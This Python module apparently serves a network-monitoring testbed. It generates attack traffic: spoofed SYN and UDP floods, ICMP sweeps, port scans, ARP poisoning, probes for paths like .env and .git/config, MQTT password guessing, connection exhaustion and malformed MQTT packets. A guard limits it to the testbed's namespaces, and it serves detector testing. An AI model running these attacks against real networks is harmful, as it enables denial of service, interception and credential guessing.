"""Our own attack tools, one process each: `python -m converter.testbed.hostile WHAT OPTIONS_JSON`.

Meant for the testbed's own network namespaces: **it refuses to run without the mark that a ward gives its
processes, and outside that ward's namespaces**, whoever set the mark. Every action is bounded by a
count and by the recorder's time limit. What is sent over MQTT is made up here.
"""

import json
import os
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from random import Random
from typing import Any

from converter.testbed import hostile_arp, hostile_mqtt, hostile_raw, wire
from converter.testbed.pacing import pace

Options = dict[str, Any]

MARK = "WARDWATCH_WARD"
"""Environment variable that the ward sets for the processes in its namespaces."""


def _random_address(rng: Random) -> str:
    """A public-looking unicast address."""
    first = rng.choice((23, 45, 62, 81, 93, 104, 151, 185))
    return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _own_address(dst: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((dst, 9))
        return str(s.getsockname()[0])


def syn_flood(o: Options) -> None:
    """SYNs from ever new ports by a raw socket."""
    rng, source, filler = Random(o["seed"]), _own_address(o["dst"]), b"w" * o["size"]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        for _ in pace(o["rate"], o["count"]):
            src = _random_address(rng) if o["spoof"] else source
            sport, seq = rng.randrange(1024, 65535), rng.randrange(2**32)
            segment = wire.tcp_syn(src, o["dst"], sport, o["port"], seq=seq, payload=filler)
            s.sendto(
                wire.ipv4(src, o["dst"], 6, segment, ident=rng.randrange(65536)), (o["dst"], 0)
            )


def udp_flood(o: Options) -> None:
    """Datagrams from a few sockets."""
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(4)]
    filler = b"w" * o["size"]
    for i in pace(o["rate"], o["count"]):
        with suppress(ConnectionRefusedError):
            sockets[i % 4].sendto(filler, (o["dst"], o["port"]))
    for s in sockets:
        s.close()


def icmp_sweep(o: Options) -> None:
    """One echo request to each address of a /24."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        for i in pace(o["rate"], o["last"]):
            body = struct.pack("!HH", os.getpid() & 0xFFFF, i) + b"w" * 24
            value = wire.checksum(b"\x08\x00\x00\x00" + body)
            with suppress(OSError):
                s.sendto(struct.pack("!BBH", 8, 0, value) + body, (f"{o['net']}.{i + 1}", 0))
        time.sleep(1)


def connect_scan(o: Options) -> None:
    """Non-blocking connects to each port; closed when answered or at the end."""
    open_ones: list[socket.socket] = []
    for i in pace(o["rate"], len(o["ports"])):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((o["dst"], o["ports"][i]))
        open_ones.append(s)
        if len(open_ones) > 50:
            open_ones.pop(0).close()
    time.sleep(0.3)
    for s in open_ones:
        s.close()


def arp_poison(o: Options) -> None:
    """Unasked replies that say to `a` that we are `b`, and to `b` that we are `a`."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        mine = s.getsockname()[4][:6]
        macs = {ip: _resolve(ip) for ip in (o["a"], o["b"])}
        for _ in pace(o["rate"], max(2, int(o["rate"] * o["seconds"]))):
            for told, claimed in ((o["a"], o["b"]), (o["b"], o["a"])):
                head = macs[told] + mine + b"\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02"
                s.send(
                    head + mine + socket.inet_aton(claimed) + macs[told] + socket.inet_aton(told)
                )


def _resolve(ip: str) -> bytes:
    """A neighbour's MAC from the kernel's table, after asking it once."""
    for _ in range(20):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, suppress(OSError):
            s.sendto(b"", (ip, 9))
        time.sleep(0.1)
        with open("/proc/net/arp", encoding="ascii") as table:  # noqa: PTH123 - a kernel file
            for row in (line.split() for line in table):
                if row[0] == ip and row[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(row[3].replace(":", ""))
    raise SystemExit(f"{ip}: no answer to ARP")


def web_probe(o: Options) -> None:
    """GETs of paths that scanners ask for, and odd methods."""
    rng = Random(o["seed"])
    words = (
        "admin",
        "login",
        ".git/config",
        "backup.zip",
        "cgi-bin/test",
        "phpinfo.php",
        "config.bak",
        "api/v1/users",
        "manager/html",
        ".env",
        "server-status",
        "setup",
        "old",
        "test.php",
    )
    for _ in pace(o["rate"], o["count"]):
        method, path = (
            rng.choice(("GET", "GET", "GET", "HEAD", "OPTIONS", "TRACE")),
            rng.choice(words),
        )
        with suppress(OSError), socket.create_connection((o["dst"], o["port"]), 2) as s:
            s.sendall(
                f"{method} /{path}?{rng.randrange(999)} HTTP/1.0\r\nHost: {o['dst']}\r\n\r\n".encode()
            )
            while s.recv(4096):
                pass


def _client(rng: Random) -> str:
    return f"c{rng.randrange(10**8)}"


def _open(o: Options, source: str = "") -> socket.socket:
    s = socket.create_connection((o["dst"], o["port"]), 3, (source, 0) if source else None)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def mqtt_connect(o: Options) -> None:
    """CONNECT on a new connection each time; with `user`, a guess that is refused."""
    rng, held = Random(o["seed"]), []
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for i in pace(o["rate"], o["count"]):
        with suppress(OSError):
            s = _open(o, o["sources"][i % len(o["sources"])])
            if o["tls"]:
                s = context.wrap_socket(s)
            word = f"{rng.randrange(10**6):06}" if o["user"] else ""
            s.sendall(
                wire.connect(
                    _client(rng),
                    level=o["level"],
                    keep_alive=o["keep_alive"],
                    user=o["user"],
                    password=word,
                )
            )
            if o["hold"]:
                held.append(s)
            else:
                s.settimeout(0.2)
                with suppress(OSError):
                    s.recv(16)
                s.close()
    time.sleep(1 if held else 0)
    for s in held:
        s.close()


def mqtt_slow(o: Options) -> None:
    """CONNECTs with the longest keep-alive, many cut over two segments, held and left idle."""
    rng, held = Random(o["seed"]), []
    for _ in pace(o["rate"], o["count"]):
        with suppress(OSError):
            s = _open(o)
            data = wire.connect(_client(rng), keep_alive=o["keep_alive"])
            cut = rng.randrange(2, len(data)) if rng.random() < o["cut"] else len(data)
            s.sendall(data[:cut])
            time.sleep(0.001)
            if cut < len(data):
                s.sendall(data[cut:])
            held.append(s)
    time.sleep(o["hold_s"])
    for s in held:
        s.close()


def mqtt_publish(o: Options) -> None:
    """PUBLISH as fast as told on a few connections, as many a write as fit into `fill` bytes."""
    rng = Random(o["seed"])
    sockets = [_open(o) for _ in range(o["connections"])]
    for s in sockets:
        s.sendall(wire.connect(_client(rng)))
        s.recv(16)
    body = bytes(rng.randrange(32, 127) for _ in range(o["size"]))
    batch = max(1, o["fill"] // (len(body) + len(o["topic"]) + 6))
    for i in pace(o["rate"] / batch, o["messages"] // batch):
        s = sockets[i % len(sockets)]
        data = b"".join(
            wire.publish(o["topic"], body, qos=o["qos"], packet_id=1 + (i * batch + j) % 65535)
            for j in range(batch)
        )
        with suppress(OSError):
            s.sendall(data)
            if o["qos"] and select.select([s], [], [], 0)[0]:
                s.recv(4096)  # acknowledgements
    time.sleep(0.5)
    for s in sockets:
        s.close()


def paho_publish(o: Options) -> None:
    """The same through a client library."""
    from paho.mqtt import client as mqtt  # noqa: PLC0415 - half the start-up time of the others
    from paho.mqtt.enums import CallbackAPIVersion  # noqa: PLC0415

    c = mqtt.Client(CallbackAPIVersion.VERSION2)
    c.connect(o["dst"], o["port"])
    c.loop_start()
    for _ in pace(o["rate"], o["messages"]):
        c.publish("ward/pump/state", b"x" * o["size"], qos=o["qos"])
    time.sleep(0.5)
    c.disconnect()
    c.loop_stop()


def _case(name: str, rng: Random) -> tuple[bool, bytes]:
    """Whether a proper CONNECT goes first, and the bytes that break the rule."""
    ok = wire.connect(_client(rng))
    bad_protocol = wire.packet(0x10, wire.text("MQXX") + b"\x04\x02\x00\x3c" + wire.text("c"))
    table: dict[str, tuple[bool, bytes]] = {
        "remaining_length": (True, b"\x30\xff\xff\xff\xff\x7f" + b"a" * 20),
        "protocol_name": (False, bad_protocol),
        "protocol_level": (False, wire.connect("c", level=9)),
        "connect_flags": (False, wire.connect("c", flags=3)),
        "qos3": (True, wire.publish("a/b", b"x", qos=3)),
        "wildcard_topic": (True, wire.publish("ward/+/#", b"x")),
        "type15": (True, b"\xf0\x02\x00\x00"),
        "type0": (True, b"\x00\x02\x00\x00"),
        "empty_subscribe": (True, wire.packet(0x82, b"\x00\x05")),
        "long_topic": (True, wire.packet(0x30, struct.pack("!H", 5000) + b"a/b")),
        "second_connect": (True, ok),
        "first_not_connect": (False, wire.publish("a/b", b"x")),
        "packet_id_zero": (True, wire.publish("a/b", b"x", qos=1, packet_id=0)),
        "bad_flags": (True, wire.packet(0x80, b"\x00\x05" + wire.text("a") + b"\x00")),
        "short_body": (True, b"\x40\x01\x00"),
        "server_packet": (True, wire.packet(0x20, b"\x00\x00")),
        "bad_utf8": (True, wire.publish(b"a/\xff\xfe/b", b"x")),
        "random": (
            rng.random() < 0.5,
            bytes(rng.randrange(256) for _ in range(rng.randrange(4, 120))),
        ),
    }
    return table[name]


def mqtt_malformed(o: Options) -> None:
    """One broken packet a connection, after a proper CONNECT where the rule needs one."""
    rng = Random(o["seed"])
    for _ in pace(o["rate"], o["count"]):
        greet, data = _case(rng.choice(o["cases"]), rng)
        with suppress(OSError):
            s = _open(o)
            s.settimeout(0.05)
            if greet:
                s.sendall(wire.connect(_client(rng)))
                with suppress(OSError):
                    s.recv(16)
            s.sendall(data)
            with suppress(OSError):
                s.recv(64)
            s.close()


TOOLS: dict[str, Callable[[Options], None]] = {
    f.__name__: f
    for f in (
        syn_flood,
        udp_flood,
        icmp_sweep,
        connect_scan,
        arp_poison,
        web_probe,
        mqtt_connect,
        mqtt_slow,
        mqtt_publish,
        paho_publish,
        mqtt_malformed,
    )
} | {f.__name__: f for m in (hostile_raw, hostile_arp, hostile_mqtt) for f in m.TOOLS}


def in_a_ward() -> bool:
    """Whether this process carries a ward's mark and stands in one of that ward's namespaces."""
    prefix = os.environ.get(MARK, "")
    mine = Path("/proc/self/ns/net").stat().st_ino
    return bool(prefix) and mine in {p.stat().st_ino for p in Path("/run/netns").glob(f"{prefix}*")}


if __name__ == "__main__":
    if not in_a_ward():
        raise SystemExit("hostile: only inside a testbed ward (wardwatch-convert testbed record)")
    TOOLS[sys.argv[1]](json.loads(sys.argv[2]))
